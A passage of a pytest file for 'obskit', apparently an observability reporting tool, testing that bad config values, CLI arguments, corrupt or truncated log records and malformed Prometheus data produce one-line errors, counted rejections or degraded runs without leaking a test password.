"""The bad-input catalogue: each case gets a clear one-line error, a counted rejection, or a degraded run.

Never a wrong number, a leaked secret, a NaN in JSON or a traceback.
"""

from __future__ import annotations

import base64
import gzip
import json
import math
import shutil
import threading
from collections.abc import Callable, Iterator
from datetime import UTC, datetime, timedelta
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import polars as pl
import pytest
import zstandard
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from obskit.cli import main
from obskit.errors import ConfigError, ObskitError, SourceError
from obskit.load._quarantine import Quarantine
from obskit.load.logs import load_requests
from obskit.load.prometheus_text import load_prometheus_text
from obskit.report import health
from obskit.report.section import open_report
from obskit.sample import generate

DATA = Path(__file__).resolve().parent / "data"
SECRET = "S3cretPW-xyz"
MAP = {"timestamp": "ts", "request_id": "id", "status_code": "code"}
T0 = datetime(2026, 11, 22, 10, tzinfo=UTC)


@pytest.fixture(scope="module")
def day(tmp_path_factory: pytest.TempPathFactory) -> Path:
    out = tmp_path_factory.mktemp("day")
    generate(out, requests=4_000, seed=13, reference_rows=2_000)
    return out


def _config(day: Path, tmp_path: Path, edit: Callable[[str], str]) -> Path:
    dest = tmp_path / "day"
    if not dest.exists():
        shutil.copytree(day, dest)
    cfg = dest / "obskit.toml"
    cfg.write_text(edit((day / "obskit.toml").read_text()))
    return cfg


def _no_leak(text: str) -> None:
    assert SECRET not in text
    assert "Traceback" not in text


# ----------------------------------------------------------------------------- config: exit 2, one line

CONFIG_CASES: dict[str, tuple[Callable[[str], str], str]] = {
    "slo-nan": (lambda t: t.replace("latency_ms = 120", "latency_ms = nan"), "slo.latency_ms: must be a positive"),
    "slo-zero": (lambda t: t.replace("latency_ms = 120", "latency_ms = 0"), "slo.latency_ms: must be a positive"),
    "slo-negative": (lambda t: t.replace("latency_ms = 120", "latency_ms = -5"), "slo.latency_ms"),
    "slo-inf": (lambda t: t.replace("latency_ms = 120", "latency_ms = inf"), "slo.latency_ms"),
    "confidence-5": (lambda t: t.replace("confidence_threshold = 0.8", "confidence_threshold = 5"),
                     "business.confidence_threshold: must be a share in [0, 1]"),
    "correction-negative": (lambda t: t.replace("correction_rate_max = 0.01", "correction_rate_max = -0.1"),
                            "business.correction_rate_max"),
    "availability-1.5": (lambda t: t.replace("availability = 0.99", "availability = 1.5"), "slo.availability"),
    "slo-window-zero": (lambda t: t.replace('window = "5m"\n\n[business]', 'window = "0m"\n\n[business]'),
                        "slo.window"),
    "report-window-bad": (lambda t: t.replace('window = "5m"                    # aggregation',
                                              'window = "5 parsecs"  # aggregation'), "report.window"),
    "column-not-canonical": (lambda t: t.replace('prediction = "pred_label"', 'predicton = "pred_label"'),
                             "sources.requests.columns.predicton: not a canonical column"),
    "source-key-typo": (lambda t: t.replace('timestamp_format = "iso8601"', 'timestamp_fromat = "iso8601"'),
                        "unknown key 'timestamp_fromat' for kind 'requests'"),
    "unknown-kind": (lambda t: t.replace('kind = "nvidia_smi"', 'kind = "nvidia-smi"'), "unknown kind 'nvidia-smi'"),
    "ftp-path": (lambda t: t.replace('path = "reference.parquet"', 'path = "ftp://host/reference.parquet"'),
                 "unsupported URL scheme"),
    "panel-no-query": (lambda t: t + '\n[[panels]]\ntitle = "x"\n', "panels[0].query: required"),
    "promql-preset": (lambda t: t.replace('preset = "triton"', 'preset = "triton2"'), "unknown preset 'triton2'"),
    "promql-placeholder": (lambda t: t + '\n[promql.signals]\nerror_rate = "rate(x[{windw}])"\n',
                           "bad placeholder"),
    "bad-toml": (lambda t: t + "\n[project\n", "invalid TOML"),
    "status-convention": (lambda t: t.replace('status_convention = "http"', 'status_convention = "htp"'),
                          "unknown status_convention 'htp'"),
    "secret-in-url-typo": (lambda t: t.replace('path = "reference.parquet"',
                                               f'path = "http://alice:{SECRET}@127.0.0.1:9/r.parquet"\nfomat = "x"'),
                           "unknown key 'fomat'"),
    # bounds (obskit.limits): one line naming the key, before a kernel starts
    "rule-window-overflows": (lambda t: t.replace('window = "10m"', 'window = "99999999999d"', 1),
                              "alert rule 'high-error-rate': window: duration '99999999999d' is longer than the "
                              "longest period, 400d"),
    "rule-interval-1ms": (lambda t: t.replace('interval = "1m"', 'interval = "1ms"', 1),
                          "alert rule 'high-error-rate': interval: '1ms' is shorter than the shortest window, 1s"),
    "report-window-500ms": (lambda t: t.replace('window = "5m"                    # aggregation',
                                                'window = "500ms"  # aggregation'),
                            "report.window: '500ms' is shorter than the shortest window, 1s"),
    "slo-window-huge": (lambda t: t.replace('window = "5m"\n\n[business]', 'window = "401d"\n\n[business]'),
                        "slo.window: duration '401d' is longer than the longest period, 400d"),
    "timezone-unknown": (lambda t: t.replace('timezone = "UTC"                 # assumed',
                                             'timezone = "Mars/Olympus"  # assumed'),
                         "project.timezone: unknown timezone 'Mars/Olympus'"),
    "source-timezone-unknown": (lambda t: t.replace('timezone = "UTC"                 # nvidia-smi',
                                                    'timezone = "Europe/Atlantis"  # nvidia-smi'),
                                "sources.gpu.timezone: unknown timezone 'Europe/Atlantis'"),
}


@pytest.mark.parametrize("case", sorted(CONFIG_CASES))
def test_config_case_is_one_line_exit_2(case: str, day: Path, tmp_path: Path,
                                        capsys: pytest.CaptureFixture[str]) -> None:
    edit, needle = CONFIG_CASES[case]
    cfg = _config(day, tmp_path, edit)
    assert main(["report", "--config", str(cfg), "--out", str(tmp_path / "r")]) == 2
    err = capsys.readouterr().err
    assert needle in err, err
    assert err.count("\n") == 1 and err.startswith("obskit: error:")
    _no_leak(err)
    assert not (tmp_path / "r").exists() or not list((tmp_path / "r").glob("*/health.html"))


# ----------------------------------------------------------------------------- arguments: exit 2 before a kernel

ARG_CASES: dict[str, tuple[list[str], str]] = {
    "start-after-end": (["--start", "2026-11-22T12:00:00Z", "--end", "2026-11-22T10:00:00Z"], "is not before --end"),
    "start-unparseable": (["--start", "yesterday"], "--start: invalid time 'yesterday'"),
    "end-unparseable": (["--end", "2026-13-45"], "--end: invalid time"),
    "notebook-path-escape": (["--notebook", "../x"], "notebook"),
    "notebook-missing": (["--notebook", "missing.ipynb"], "notebook not found"),
    "param-unknown": (["-p", "colour=red"], "unknown parameter 'colour'"),
    "param-window": (["-p", "window=abc"], "parameter 'window'"),
    "last-and-start": (["--last", "24h", "--start", "2026-11-22T00:00:00Z"], "--last cannot be combined"),
    "last-bad": (["--last", "a while"], "--last"),
    # bounds (obskit.limits)
    "last-100000w": (["--last", "100000w"], "--last: duration '100000w' is longer than the longest period, 400d"),
    "last-overflows": (["--last", "99999999999d"], "--last: duration '99999999999d' is longer than the longest"),
    "start-before-year-1": (["--start", "0001-01-01T00:00:00+05:00"],
                            "--start: invalid time '0001-01-01T00:00:00+05:00': out of range"),
    "start-implausible": (["--start", "1900-01-01T00:00:00Z", "--end", "2026-01-01T00:00:00Z"],
                          "--start/--end: start 1900-01-01T00:00:00+00:00 is outside the years 1990–2200"),
    "period-too-long": (["--start", "2024-01-01T00:00:00Z", "--end", "2026-01-01T00:00:00Z"],
                        "is longer than the longest period, 400d"),
    "param-window-1ms": (["-p", "window=1ms"], "parameter 'window': '1ms' is shorter than the shortest window, 1s"),
}


@pytest.mark.parametrize("case", sorted(ARG_CASES))
def test_argument_case_is_one_line_exit_2(case: str, samples_dir: Path, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str]) -> None:
    extra, needle = ARG_CASES[case]
    assert main(["report", "--config", str(samples_dir / "obskit.toml"), "--out", str(tmp_path / "r"), *extra]) == 2
    err = capsys.readouterr().err
    assert needle in err and err.count("\n") == 1, err
    assert not list((tmp_path / "r").glob("*/*.html")) if (tmp_path / "r").exists() else True


def test_unwritable_out_is_one_line_exit_2(samples_dir: Path, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str]) -> None:
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    assert main(["report", "--config", str(samples_dir / "obskit.toml"), "--out", str(blocker / "reports")]) == 2
    err = capsys.readouterr().err
    assert "cannot write reports there" in err and err.count("\n") == 1


# ----------------------------------------------------------------------------- records: counted rejections


def _jsonl(rows: list[dict[str, Any] | str]) -> bytes:
    return b"".join((r if isinstance(r, str) else json.dumps(r)).encode() + b"\n" for r in rows)


def _row(i: int, **over: Any) -> dict[str, Any]:
    row = {"ts": (T0 + timedelta(seconds=i)).isoformat(), "id": f"r{i}", "model": "m", "model_version": "1",
           "latency_ms": 10.0 + i % 7, "code": 200, "confidence": 0.9}
    row.update(over)
    return row


RECORD_CASES: dict[str, tuple[list[Any], str]] = {
    "latency-nan-string": ([_row(1, latency_ms="NaN")], "latency_ms: not a finite number"),
    "latency-infinity": ([_row(1, latency_ms="Infinity")], "latency_ms: not a finite number"),
    "latency-1e400": (['{"ts": "2026-11-22T10:00:01Z", "id": "r1", "model": "m", "model_version": "1", '
                       '"latency_ms": 1e400, "code": 200, "confidence": 0.9}'], "latency_ms: not a finite number"),
    "latency-negative": ([_row(1, latency_ms=-3.0)], "latency_ms: negative"),
    "latency-missing": ([_row(1, latency_ms=None)], "latency_ms: missing"),
    "confidence-5": ([_row(1, confidence=5.0)], "confidence: outside [0, 1]"),
    "confidence-nan": ([_row(1, confidence="NaN")], "confidence: outside [0, 1] or not a number"),
    "year-9999": ([_row(1, ts="9999-01-01T00:00:00Z")], "timestamp: outside the years"),
    "year-0001": ([_row(1, ts="0001-01-01T00:00:00Z")], "timestamp: outside the years"),
    "timestamp-garbage": ([_row(1, ts="tuesday")], "timestamp: cannot parse"),
    "duplicate-id": ([_row(1, id="r0")], "request_id: duplicate"),
    "invalid-json": (['{"ts": "2026-11-22T10:00:01Z", "id": '], "invalid JSON"),
    "not-an-object": (["[1, 2, 3]"], "expected a JSON object"),
    "unknown-status": ([_row(1, code="teapot")], "status: unknown value"),
    # strict values: never a silent null, never a bool read as a number
    "confidence-decimal-comma": ([_row(1, confidence="0,9")], "confidence: decimal comma, not a number"),
    "confidence-word": ([_row(1, confidence="high")], "confidence: not a number"),
    "confidence-true": ([_row(1, confidence=True)], "confidence: a boolean, not a number"),
    "latency-true": ([_row(1, latency_ms=True)], "latency_ms: a boolean, not a number"),
    "latency-word": ([_row(1, latency_ms="slow")], "latency_ms: missing or not a number"),
    "duplicate-key": (['{"ts": "2026-11-22T10:00:01Z", "id": "r1", "model": "m", "model_version": "1", '
                       '"latency_ms": 5, "latency_ms": 7, "code": 200, "confidence": 0.9}'],
                      "duplicate key 'latency_ms'"),
    "deep-record": (['{"ts": "2026-11-22T10:00:01Z", "x": ' + "[" * 200 + "]" * 200 + "}"],
                    "nested deeper than 64 levels"),
}


@pytest.mark.parametrize("case", sorted(RECORD_CASES))
def test_record_case_is_a_counted_rejection(case: str, tmp_path: Path) -> None:
    bad, reason = RECORD_CASES[case]
    good = [_row(i) for i in range(0, 400) if i != 1]
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl([good[0], *bad, *good[1:]]))
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert df.height == len(good) and q.count == len(bad), q.frame()
    rejected = q.frame().row(0, named=True)
    assert reason in rejected["reason"] and rejected["line"] == 2
    assert df["latency_ms"].is_finite().all()


def test_a_timestamp_a_year_ahead_does_not_stretch_the_log(tmp_path: Path) -> None:
    rows = [_row(i) for i in range(300)] + [_row(999, ts=(T0 + timedelta(days=365)).isoformat())]
    path = tmp_path / "log.jsonl"
    path.write_bytes(_jsonl(rows))
    q = Quarantine()
    df = load_requests(path, columns=MAP, quarantine=q)
    assert df["timestamp"].max() < T0 + timedelta(days=1)  # type: ignore[operator]
    assert q.count == 1 and "far outside the rest of the log" in q.frame()["reason"][0]


CSV_HEAD = b"ts,id,model,model_version,latency_ms,code\n"


@pytest.mark.parametrize(("body", "rejected", "loaded", "line", "reason"), [
    (b"2026-11-22T10:00:00Z,a,m,1,12.5,200\n2026-11-22T10:00:01Z,b,m,1,13\n2026-11-22T10:00:02Z,c,m,1,3,200\n",
     1, 2, 3, "expected 6 fields, got 5"),
    (b"2026-11-22T10:00:00Z,a,m,1,12.5,200,extra\n2026-11-22T10:00:02Z,c,m,1,3,200\n", 1, 1, 2,
     "expected 6 fields, got 7"),
    (b"2026-11-22T10:00:00Z,a,m,\xff\xfe,12.5,200\n2026-11-22T10:00:02Z,c,m,1,3,200\n", 1, 1, 2, "invalid UTF-8"),
    (b'2026-11-22T10:00:00Z,"a\nb",m,1,12.5,200\n2026-11-22T10:00:02Z,c,m,1,-3,200\n', 1, 1, 4,
     "latency_ms: negative"),
], ids=["short-row", "long-row", "non-utf8-row", "quoted-newline-line-numbers"])
@pytest.mark.parametrize("sep", [b",", b";", b"\t", b"|"], ids=["comma", "semicolon", "tab", "pipe"])
def test_csv_rows_load_or_are_rejected_never_both(body: bytes, rejected: int, loaded: int, line: int, reason: str,
                                                  sep: bytes, tmp_path: Path) -> None:
    """The same quirks with each separator a log may use: it is read from the header."""
    path = tmp_path / "log.csv"
    path.write_bytes((CSV_HEAD + body).replace(b",", sep))
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert (df.height, q.count) == (loaded, rejected)
    row = q.frame().row(0, named=True)
    assert row["line"] == line and reason in row["reason"]


@pytest.mark.parametrize("sep", [";", "\t", "|"], ids=["semicolon", "tab", "pipe"])
def test_a_csv_log_with_another_separator_loads_like_the_comma_one(sep: str, tmp_path: Path) -> None:
    """A spreadsheet export (``;``), a tab or ``|`` export: the same frame as with commas; a comma
    inside a field of such a file is text, not a separator."""
    rows = [f"2026-11-22T10:00:{i:02d}Z,r{i},m,1,{10 + i}.5,200,note {i}" for i in range(40)]
    comma = tmp_path / "comma.csv"
    comma.write_text(CSV_HEAD.decode().strip() + ",note\n" + "\n".join(rows) + "\n")
    other = tmp_path / "other.csv"
    other.write_text(comma.read_text().replace(",", sep).replace("note 3", "note 3, with a comma"))
    a = load_requests(comma, columns=MAP, status_convention="http")
    b = load_requests(other, columns=MAP, status_convention="http")
    assert b.height == 40 and b.columns == a.columns
    assert b.drop("note").equals(a.drop("note"))
    assert b["note"][3] == "note 3, with a comma"


@pytest.mark.parametrize("codec", ["gzip", "zstd"])
def test_a_truncated_compressed_log_keeps_what_it_has_and_says_so(codec: str, tmp_path: Path) -> None:
    data = _jsonl([_row(i, pad="x" * (i * 7919 % 97)) for i in range(3000)])
    packed = gzip.compress(data) if codec == "gzip" else zstandard.ZstdCompressor().compress(data)
    path = tmp_path / f"log.jsonl.{'gz' if codec == 'gzip' else 'zst'}"
    path.write_bytes(packed[: len(packed) * 2 // 3])
    q = Quarantine()
    df = load_requests(path, columns=MAP, quarantine=q)
    assert 0 < df.height < 3000
    reasons = q.frame()["reason"].to_list()
    assert any(f"truncated {codec}" in r for r in reasons)


def test_one_bad_file_in_a_glob_is_reported_and_the_others_load(tmp_path: Path) -> None:
    import gzip

    (tmp_path / "a.jsonl").write_bytes(_jsonl([_row(i) for i in range(10)]))
    (tmp_path / "b.jsonl").write_bytes(b"")  # a quiet hour: read, nothing in it, nothing lost
    (tmp_path / "c.jsonl").write_bytes(_jsonl([_row(i) for i in range(10, 20)]))
    (tmp_path / "d.jsonl").write_bytes(gzip.compress(_jsonl([_row(i) for i in range(20, 30)]))[:12])  # cut short
    cfg = tmp_path / "obskit.toml"
    cfg.write_text(f'[sources.requests]\npath = "{tmp_path}/*.jsonl"\n[sources.requests.columns]\n'
                   'timestamp = "ts"\nrequest_id = "id"\nstatus_code = "code"\n')
    rep = open_report(str(cfg))
    assert rep.requests is not None and rep.requests.height == 20
    (problem,) = rep.session.problems
    assert "d.jsonl: " in problem.reason and "(file skipped)" in problem.reason
    assert str(tmp_path / "b.jsonl") in rep.session.quarantine.stats.files  # read, counted, and no problem


def test_a_glob_of_empty_files_is_still_an_error(tmp_path: Path) -> None:
    (tmp_path / "a.jsonl").write_bytes(b"")
    (tmp_path / "b.jsonl").write_bytes(b"\n")
    with pytest.raises(SourceError, match="file is empty"):
        load_requests(str(tmp_path / "*.jsonl"), columns=MAP)


# ----------------------------------------------------------------------------- Prometheus semantics

@pytest.mark.parametrize(("name", "reason", "kept"), [
    ("duplicate_series.prom", "duplicate series", 2),
    # (a malformed histogram goes whole: its _sum and _count too, the gauge beside it stays)
    ("histogram_not_cumulative.prom", "malformed histogram lat: bucket counts decrease", 1),
    ("histogram_no_inf.prom", 'malformed histogram lat: no le="+Inf" bucket', 1),
])
def test_prometheus_semantics_are_checked(name: str, reason: str, kept: int) -> None:
    q = Quarantine()
    df = load_prometheus_text(DATA / "bad" / name, quarantine=q)
    assert df.height == kept and q.count >= 1, df
    assert all(reason in r for r in q.frame()["reason"].to_list())


# ----------------------------------------------------------------------------- runs that have nothing to check

@pytest.mark.parametrize("case", ["header-only-csv", "window-without-data", "model-matches-nothing",
                                  "every-row-rejected"])
def test_nothing_to_check_is_never_ok(case: str, day: Path, tmp_path: Path) -> None:
    kw: dict[str, str] = {}
    edit: Callable[[str], str] = lambda t: t  # noqa: E731
    if case == "header-only-csv":
        edit = lambda t: t.replace('path = "requests.jsonl.gz"', f'path = "{DATA}/bad/header_only.csv"').replace(  # noqa: E731
            'format = "jsonl"', 'format = "csv"')
    elif case == "window-without-data":
        kw = {"start": "2030-01-01T00:00:00Z", "end": "2030-01-02T00:00:00Z"}
    elif case == "model-matches-nothing":
        kw = {"model": "no-such-model"}
    else:
        edit = lambda t: t.replace('timestamp_format = "iso8601"', 'timestamp_format = "s"')  # noqa: E731
    out = tmp_path / "out"
    rep = open_report(str(_config(day, tmp_path, edit)), output_dir=str(out), **kw)
    for fn in (health.alerts, health.summary, health.traffic, health.latency, health.gpu, health.drift):
        fn(rep)
    rep.finish()
    summary = json.loads((out / "summary.json").read_text())
    assert summary["status"] in ("no_data", "degraded"), summary["status"]


def test_a_feature_missing_from_the_reference_degrades_the_run(day: Path, tmp_path: Path) -> None:
    cfg = _config(day, tmp_path,
                  lambda t: t.replace('numeric = ["brightness"', 'numeric = ["brigthness", "brightness"'))
    out = tmp_path / "out"
    rep = open_report(str(cfg), output_dir=str(out))
    sec = health.drift(rep)
    assert sec.status != "skipped"
    rep.finish()
    summary = json.loads((out / "summary.json").read_text())
    assert summary["status"] == "degraded"
    assert any("brigthness" in p["reason"] and p["source"] == "features" for p in summary["problems"])


# ----------------------------------------------------------------------------- secrets


class _AuthLog(BaseHTTPRequestHandler):
    body = b""
    expected = "Basic " + base64.b64encode(f"alice:{SECRET}".encode()).decode()

    def do_GET(self) -> None:
        if self.headers.get("Authorization") != self.expected:
            self.send_response(401)
            self.end_headers()
            return
        self.send_response(200)
        self.end_headers()
        self.wfile.write(self.body)

    def log_message(self, *args: Any) -> None:
        return


@pytest.fixture
def auth_server() -> Iterator[str]:
    _AuthLog.body = _jsonl([_row(i) for i in range(300)])
    server = ThreadingHTTPServer(("127.0.0.1", 0), _AuthLog)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"127.0.0.1:{server.server_address[1]}"
    finally:
        server.shutdown()
        server.server_close()


@pytest.mark.parametrize("password", [SECRET, "wrong-" + SECRET])
def test_credentials_in_a_source_url_work_and_never_leak(password: str, auth_server: str, tmp_path: Path,
                                                          capsys: pytest.CaptureFixture[str]) -> None:
    cfg = tmp_path / "obskit.toml"
    cfg.write_text(f'[sources.requests]\npath = "http://alice:{password}@{auth_server}/logs/day.jsonl"\n'
                   'format = "jsonl"\n[sources.requests.columns]\ntimestamp = "ts"\nrequest_id = "id"\n'
                   'status_code = "code"\n')
    out = tmp_path / "out"
    rep = open_report(str(cfg), output_dir=str(out))
    for fn in (health.alerts, health.summary, health.traffic, health.latency):
        fn(rep)
    rep.finish()
    text = (out / "summary.json").read_text()
    summary = json.loads(text)
    _no_leak(text)
    if password == SECRET:
        assert rep.requests is not None and rep.requests.height == 300
        assert summary["problems"] == []
    else:
        assert summary["status"] == "degraded"
        assert "HTTP 401" in summary["problems"][0]["reason"] and auth_server in summary["problems"][0]["reason"]
    assert main(["check", "--config", str(cfg)]) == (0 if password == SECRET else 2)
    captured = capsys.readouterr()
    _no_leak(captured.out + captured.err)


# ----------------------------------------------------------------------------- outputs


def test_summary_json_is_strict_even_with_nan_figures(tmp_path: Path, samples_dir: Path) -> None:
    rep = open_report(str(samples_dir / "obskit.toml"), output_dir=str(tmp_path))
    rep.figures["nan_figure"] = float("nan")
    rep.figures["inf_figure"] = math.inf
    rep.finish()
    text = (tmp_path / "summary.json").read_text()
    assert "NaN" not in text and "Infinity" not in text
    body = json.loads(text, parse_constant=lambda c: pytest.fail(f"non-strict JSON constant {c}"))
    assert body["figures"]["nan_figure"] is None


def test_errors_pickle_with_their_fields() -> None:
    import pickle

    from obskit.errors import ParseError, RemoteError

    for err in (ParseError("bad", path="a.jsonl", line=3, column="x"), RemoteError("HTTP 503", url="u", status=503),
                ConfigError("nope", path="obskit.toml")):
        back = pickle.loads(pickle.dumps(err))
        assert type(back) is type(err) and str(back) == str(err) and back.__dict__ == err.__dict__
        assert isinstance(back, ObskitError)


# ----------------------------------------------------------------------------- property: nothing is lost

_CORRUPT = st.sampled_from(["ok", "ok", "ok", "nan", "negative", "bad-json", "not-utf8", "missing-latency",
                            "blank", "duplicate", "confidence"])


def _line(i: int, kind: str) -> bytes | None:
    if kind == "blank":
        return None
    row = _row(i)
    if kind == "nan":
        row["latency_ms"] = "NaN"
    elif kind == "negative":
        row["latency_ms"] = -1.0
    elif kind == "missing-latency":
        del row["latency_ms"]
    elif kind == "duplicate":
        row["id"] = "r0"
    elif kind == "confidence":
        row["confidence"] = 1.5
    text = json.dumps(row).encode()
    if kind == "bad-json":
        return text[: len(text) // 2]
    if kind == "not-utf8":
        return text.replace(b'"m"', b'"\xff\xfe"')
    return text


@settings(max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(kinds=st.lists(_CORRUPT, min_size=1, max_size=40), codec=st.sampled_from(["plain", "gzip", "zstd"]))
def test_loaded_plus_rejected_equals_records(kinds: list[str], codec: str, tmp_path: Path) -> None:
    lines = [_line(0, "ok"), *(_line(i + 1, k) for i, k in enumerate(kinds))]
    data = b"".join((ln if ln is not None else b"") + b"\n" for ln in lines)
    records = sum(1 for ln in lines if ln is not None)
    if codec == "gzip":
        data, suffix = gzip.compress(data), ".jsonl.gz"
    elif codec == "zstd":
        data, suffix = zstandard.ZstdCompressor().compress(data), ".jsonl.zst"
    else:
        suffix = ".jsonl"
    path = tmp_path / f"log-{abs(hash((tuple(kinds), codec)))}{suffix}"
    path.write_bytes(data)
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert df.height + q.count == records, q.frame()
    assert df["latency_ms"].is_finite().all() and (df["latency_ms"] >= 0).all()
    assert df["request_id"].n_unique() == df.height


@settings(max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(fields=st.lists(st.integers(min_value=3, max_value=8), min_size=1, max_size=30))
def test_csv_loaded_plus_rejected_equals_records(fields: list[int], tmp_path: Path) -> None:
    rows = [b"2026-11-22T10:00:00Z,r0,m,1,10.0,200"]
    for i, n in enumerate(fields, start=1):
        full = [f"2026-11-22T10:00:{i % 60:02d}Z", f"r{i}", "m", "1", "10.0", "200", "x", "y"]
        rows.append(",".join(full[:n]).encode())
    path = tmp_path / f"log-{abs(hash(tuple(fields)))}.csv"
    path.write_bytes(CSV_HEAD + b"\n".join(rows) + b"\n")
    q = Quarantine()
    df = load_requests(path, columns=MAP, status_convention="http", quarantine=q)
    assert df.height + q.count == len(rows)
    assert q.count == sum(1 for n in fields if n != 6)
    assert isinstance(df, pl.DataFrame)


def test_the_index_lists_only_real_reports_and_killed_runs_are_cleaned(tmp_path: Path, samples_dir: Path) -> None:
    import os
    import subprocess
    import time

    from obskit.history import load_runs
    from obskit.report.runner import _clean_interrupted, _host_tag

    out = tmp_path / "reports"
    (out / "2026-11-22").mkdir(parents=True)
    (out / "2026-11-22" / "summary.json").write_text('{"day": "2026-11-22", "status": "ok", "html": "health.html"}')
    dead = subprocess.Popen(["true"])
    dead.wait()
    left = out / f".obskit-run-{_host_tag()}-{dead.pid}-abcd"  # a run that was killed: its process is gone
    left.mkdir()
    (left / "summary.json").write_text('{"day": "2026-11-22", "status": "ok"}')
    mine = out / f".obskit-run-{_host_tag()}-{os.getpid()}-efgh"  # a run in progress
    elsewhere = out / ".obskit-run-0badc0de-1-ijkl"  # another machine's run: not ours to judge
    elsewhere.mkdir()
    notes = out / "notes"
    notes.mkdir()
    (notes / ".draft.md.tmp").write_text("a user's file")
    mine.mkdir()
    tmp = out / "2026-11-22" / ".health.html.x1.tmp"
    tmp.write_text("")
    old = time.time() - 7200
    os.utime(tmp, (old, old))
    assert [r.day for r in load_runs(out)] == ["2026-11-22"]  # no phantom row from a run folder
    os.utime(notes / ".draft.md.tmp", (old, old))
    _clean_interrupted(out)
    assert not left.exists() and mine.exists() and not tmp.exists()
    assert elsewhere.exists() and (notes / ".draft.md.tmp").exists()


def test_notify_sends_only_its_own_runs_alerts(tmp_path: Path, samples_dir: Path, monkeypatch: pytest.MonkeyPatch,
                                               capsys: pytest.CaptureFixture[str]) -> None:
    out = tmp_path / "r"
    (out / "2026-11-22").mkdir(parents=True)
    (out / "2026-11-22" / "alerts.json").write_text('{"alerts": [{"id": "x", "rule": "from-an-earlier-health-run"}]}')
    monkeypatch.setenv("OBSKIT_ALERT_WEBHOOK", "http://127.0.0.1:9/hook")
    code = main(["report", "--config", str(samples_dir / "obskit.toml"), "--notebook", "canary_report", "--out",
                 str(out), "--notify"])
    assert code in (0, 3)
    err = capsys.readouterr().err
    assert "canary_report evaluates no alert rules: nothing sent" in err


# ----------------------------------------------------------------------------- review regressions


def test_mapping_outputs_come_from_the_original_fields() -> None:
    from obskit.load.mapping import apply_mapping

    df = pl.DataFrame({"deploy": [{"name": "resnet"}], "model": ["v7"]})
    out = apply_mapping(df, {"model": "deploy.name", "model_version": "model"})
    assert out.select("model", "model_version").row(0) == ("resnet", "v7")


def test_fill_gaps_keeps_off_grid_points_and_null_groups() -> None:
    from obskit.charts import fill_gaps

    t = [T0 + timedelta(minutes=m) for m in (0, 5, 10, 15, 27)]
    f = pl.DataFrame({"window_start": t, "v": [1.0, 2.0, 3.0, 4.0, 5.0]})
    assert fill_gaps(f)["v"].to_list() == [1.0, 2.0, 3.0, 4.0, 5.0]  # not a grid: nothing dropped
    g = pl.DataFrame({"window_start": [T0 + timedelta(minutes=m) for m in (0, 5, 15)], "version": [None] * 3,
                      "v": [1.0, 2.0, 3.0]}, schema_overrides={"version": pl.String})
    assert fill_gaps(g, by="version")["v"].to_list() == [1.0, 2.0, None, 3.0]


def test_duplicate_line_numbers_count_blank_lines(tmp_path: Path) -> None:
    path = tmp_path / "log.jsonl"
    rows = [json.dumps(_row(0)), "", json.dumps(_row(1)), "   ", json.dumps(_row(0, latency_ms=3.0))]
    path.write_text("\n".join(rows) + "\n")
    q = Quarantine()
    load_requests(path, columns=MAP, quarantine=q)
    assert q.frame().select("line", "reason").row(0) == (5, "request_id: duplicate (kept its first occurrence)")


def test_a_gzip_missing_only_its_trailer_loses_nothing_and_is_reported(tmp_path: Path) -> None:
    data = _jsonl([_row(i) for i in range(1000)])
    path = tmp_path / "log.jsonl.gz"
    path.write_bytes(gzip.compress(data)[:-8])  # the CRC and size trailer only
    q = Quarantine()
    df = load_requests(path, columns=MAP, quarantine=q)
    assert df.height == 1000 and q.count == 0
    assert q.stats.skipped and "truncated gzip" in q.stats.skipped[0][1]


def test_a_csv_header_naming_a_column_twice_is_a_clear_error(tmp_path: Path) -> None:
    from obskit.errors import SourceError

    path = tmp_path / "log.csv"
    path.write_bytes(b"ts,id,id,latency_ms\n2026-11-22T10:00:00Z,a,b,3\n")
    with pytest.raises(SourceError, match="names a column twice: id"):
        load_requests(path, columns={"timestamp": "ts", "request_id": "id"})


def test_a_prometheus_label_named_line_is_kept_apart() -> None:
    from obskit.load.prometheus_text import parse_exposition

    exp = parse_exposition(b'foo{line="a"} 1\nfoo{line="b"} 2\n', quarantine=Quarantine())
    assert exp.samples["label_line"].to_list() == ["a", "b"]


# ----------------------------------------------------------------------------- hostile records, every loader
# Each case: the file a loader reads, how many records load, how many are rejected, and the
# reason of the rejection. loaded + rejected == records, always; never an exception.

def _otlp(**span_over: Any) -> str:
    span = {"traceId": "5b8efff798038103d269b633813fc60c", "spanId": "eee19b7ec3c1b174", "name": "POST /infer",
            "kind": 2, "startTimeUnixNano": "1763805600000000000", "endTimeUnixNano": "1763805600012000000",
            "attributes": [{"key": "model.name", "value": {"stringValue": "resnet50"}},
                           {"key": "model.version", "value": {"stringValue": "v1"}},
                           {"key": "http.response.status_code", "value": {"intValue": "200"}}], "status": {}}
    span.update(span_over)
    return json.dumps({"resourceSpans": [{"resource": {"attributes": []}, "scopeSpans": [{"spans": [span]}]}]})


def _qr(*series: dict[str, Any]) -> str:
    return json.dumps({"status": "success", "data": {"resultType": "matrix", "result": list(series)}})


_T = 1_763_805_600  # 2025-11-22T10:00:00Z
_SMI_HEAD = "timestamp, index, utilization.gpu [%], memory.used [MiB], memory.total [MiB], temperature.gpu\n"


def _smi(*rows: str) -> str:
    return _SMI_HEAD + "".join(r + "\n" for r in rows)


_SMI_OK = "2025/11/22 10:00:00.000, 0, 50 %, 1000 MiB, 8192 MiB, 60"

HOSTILE: dict[str, tuple[str, str, str, int, int, str]] = {
    # name: (loader, file suffix, content, loaded, rejected, reason)
    "jsonl-deep-line": ("requests", ".jsonl", json.dumps(_row(0)) + "\n" + '{"a":' * 100_000 + "\n"
                        + json.dumps(_row(1)) + "\n", 2, 1, "nested deeper than 64 levels"),
